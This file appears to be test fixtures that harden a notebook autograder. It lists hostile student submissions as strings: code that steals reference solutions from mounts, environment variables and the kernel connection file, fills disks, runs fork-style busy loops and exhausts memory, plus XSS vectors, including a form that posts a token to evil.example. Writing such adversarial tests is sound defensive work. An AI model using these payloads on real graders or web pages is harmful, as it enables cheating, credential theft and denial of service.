REFERENCE_ROUTES = REFERENCE_FINDER + """
for _route, _path in _found:
    _ref = _import_from(None if _route == 'import' else _path.rsplit('/autograder/', 1)[0])
    if _ref is not None:
        for _name in ('Linear', 'ReLU', 'Identity', 'Sigmoid', 'Tanh', 'Dropout'):
            setattr(globals()[_name], 'backward', getattr(_ref, _name).backward)
        numerical_gradient = _ref.numerical_gradient
        break
"""

# The course directory's path, from the mount table and its kind (finding 7), then its
# source notebook and gradebook by that path. Prints what it read, for the test to search.
MOUNT_LEAK = """import glob, json, os, re
_texts = {}
for _path in ['/proc/self/mountinfo', '/proc/self/mounts', '/proc/1/mountinfo', '/proc/self/cmdline',
              '/proc/1/cmdline', '/proc/self/environ', '/proc/1/environ']:
    try:
        _texts[_path] = open(_path, errors='replace').read()
    except OSError as error:
        _texts[_path] = type(error).__name__
_texts['environ'] = json.dumps(dict(os.environ))
from ipykernel import get_connection_file
_texts['connection'] = open(get_connection_file()).read()
print('seen', json.dumps(_texts))
_paths = {p for t in _texts.values() for p in re.findall(r'(/[^\\s\\x00",]+)', t)}
for _path in sorted(_paths):
    for _parent in [_path, *[str(p) for p in __import__('pathlib').Path(_path).parents]]:
        for _notebook in glob.glob(_parent + '/source/04_backward/*.ipynb'):
            for _cell in json.load(open(_notebook))['cells']:
                if 'BEGIN ' + 'SOLUTION' in ''.join(_cell['source']):  # the marker itself would be refused
                    exec(''.join(_cell['source']), globals())
"""

# Fill every place it can write (finding 8): matplotlib's folder, IPython's, the home and
# working folders, /tmp, /dev/shm, /var/tmp, the connection folder and the root.
FILL_DISK = """import os
from ipykernel import get_connection_file
_places = [os.environ.get('MPLCONFIGDIR', '/tmp'), get_ipython().profile_dir.location, os.path.expanduser('~'),
           os.getcwd(), '/tmp', '/dev/shm', '/var/tmp', os.path.dirname(get_connection_file()), '/']
_block = b'x' * (8 * 1024 * 1024)
for _place in _places:
    _written = 0
    try:
        for _i in range(40):
            with open(os.path.join(_place, f'fill-{_i}.bin'), 'wb') as _out:
                _out.write(_block)
            _written += len(_block)
    except OSError as error:
        print(_place, _written // 2**20, 'MiB then', type(error).__name__)
    else:
        print(_place, _written // 2**20, 'MiB written')
"""

SANDBOX_VIEW = [
    Hostile("other_steps", "every solution cell runs the other assignments' previous_steps.py",
            every_solution(OTHER_STEPS), 0, ()),
    Hostile("reference_routes", "every solution cell takes the reference by every route it can find",
            every_solution(REFERENCE_ROUTES), 0, ()),
    Hostile("mount_leak", "finds the course directory in the mount table and runs its source notebook",
            every_solution(MOUNT_LEAK), 0, ()),
    Hostile("fill_disk", "writes 320 MiB to each place it can, after correct code",
            injected(FILL_DISK, "complete", after="test_dropout_backward"), FULL, ()),
]
CATALOGUE += SANDBOX_VIEW
# --- Student markup and kernels that starve others (inert markup, a control group per kernel) ---

PWNED = "window.__pwned"  # what every script vector below would set; tests/test_browser.py reads it
EVIL = "http://evil.example"  # no page may ask it for anything
_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=3"><script>window.__pwned=3; '
        'document.title=`pwned`</script></svg>')
MARKUP_CODE = f"""import base64, io
from IPython.display import HTML, SVG, Image, Javascript, Markdown, display
import matplotlib.pyplot as plt
display(Javascript("{PWNED}=1; document.title='pwned'"))
display(HTML('<img src=x onerror="{PWNED}=2; document.title=`pwned`">'))
display(SVG('{_SVG}'))
display(Markdown('<iframe srcdoc="<script>parent.__pwned=4</script>"></iframe> [go](javascript:{PWNED}=4)'))
display(HTML('<meta http-equiv="refresh" content="0;url={EVIL}/refresh">'))
display(HTML('<form action="{EVIL}/steal" method="post"><input name="token"><button>go</button></form>'))
display(HTML('<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:red">'
             'OVERLAY</div><style>body {{ visibility: hidden }}</style>'))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2, "version_minor": 0}},
         "text/html": "<script>{PWNED}=8</script>"}}, raw=True)
display({{"application/vnd.plotly.v1+json": {{"data": []}}, "text/html": '<img src="{EVIL}/pixel.png">'}}, raw=True)
figure = plt.figure(figsize=(2, 2))
plt.plot([0, 1], [0, 1])
png = io.BytesIO()
figure.savefig(png, format="png")
plt.close(figure)
display(Image(data=png.getvalue()))
display({{"image/png": base64.b64encode(png.getvalue()).decode()}}, raw=True,
        metadata={{"image/png": {{"width": '1" onerror="{PWNED}=13'}}}})
print("plain text output: still shown <b>escaped</b>")
"""
MARKUP_MARKDOWN = (f'A student note. <img src=x onerror="{PWNED}=10"> <script>{PWNED}=10</script>\n\n'
                   f'[click me](javascript:{PWNED}=10) ![remote]({EVIL}/remote.png) ![svg](attachment:evil.svg)\n\n'
                   f'<a href="&#106;avascript:{PWNED}=10">encoded</a> <iframe src="{EVIL}/frame"></iframe>')
MARKUP_RAW = f'<script>{PWNED}=11</script><img src=x onerror="{PWNED}=11">'
MARKUP_SVG = base64.b64encode(_SVG.encode()).decode()


def _markup(notebook):
    """The complete notebook with markup vectors after its last test cell: rich outputs, a
    markdown cell with raw HTML and an SVG attachment, a raw cell, hostile cell and notebook
    metadata."""
    after = _index(notebook, "test_dropout_backward") + 1
    code = new_code_cell(MARKUP_CODE, metadata={"tags": [f'"><script>{PWNED}=12</script>']})
    note = nbformat.v4.new_markdown_cell(MARKUP_MARKDOWN, attachments={"evil.svg": {"image/svg+xml": MARKUP_SVG}})
    notebook.cells[after:after] = [code, note, nbformat.v4.new_raw_cell(MARKUP_RAW)]
    notebook.metadata["title"] = f"</title><script>{PWNED}=14</script>"
    notebook.metadata["language_info"] = {"name": f'python"><script>{PWNED}=15</script>'}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}


MARKUP = edited(_markup)

BUSY_SESSIONS = """import subprocess
busy = [subprocess.Popen(['/bin/sh', '-c', 'while :; do :; done'], start_new_session=True) for _ in range(110)]
print(len(busy), 'busy loops, each in a session of its own')
"""
RESIDENT_MEMORY = """chunks = []
for _ in range(14):  # 3.5 GiB really used, each block under the 4 GiB address-space limit
    chunks.append(b'x' * (256 * 1024 ** 2))
"""

CATALOGUE += [
    Hostile("markup", "HTML, JavaScript, SVG, widgets, raw HTML and hostile metadata after correct code",
            MARKUP, FULL, ()),
    # 110 busy processes in sessions of their own share one kernel's CPU (its control group);
    # the stubs score 0, and the correct submissions graded beside it keep every point.
    Hostile("busy_sessions", "110 busy /bin/sh loops, each in its own session, stubs",
            injected(BUSY_SESSIONS, "untouched"), 0, ()),
    # Memory really used (not only reserved) stops at the kernel group's memory limit: the
    # kernel is killed alone, at its last cell, and the cells before are re-checked.
    Hostile("resident_memory", "fills 3.5 GiB of memory after correct code",
            injected(RESIDENT_MEMORY, "complete", after="test_dropout_backward"), FULL,
            ("kernel stopped", "re-checked the cells that ran before")),
]
